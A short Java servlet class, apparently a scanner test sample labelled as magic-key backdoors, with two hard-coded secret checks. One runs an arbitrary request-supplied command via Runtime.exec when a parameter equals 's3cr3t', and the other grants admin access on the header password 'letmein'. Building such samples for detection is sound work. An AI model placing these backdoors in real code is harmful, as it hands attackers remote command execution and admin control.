package shop;

import jakarta.servlet.http.HttpServletRequest;
import java.io.IOException;

/** Magic-key backdoors (B.1.4.7): request values compared with hard-coded secrets, one guarding a command. */
public class MagicKey {
    public void handle(HttpServletRequest request) throws IOException {
        if (request.getParameter("k").equals("s3cr3t")) {
            Runtime.getRuntime().exec(request.getParameter("c"));
        }
    }

    public boolean admin(HttpServletRequest request) {
        String password = request.getHeader("X-Admin-Password").trim();
        return "letmein".equals(password);
    }
}
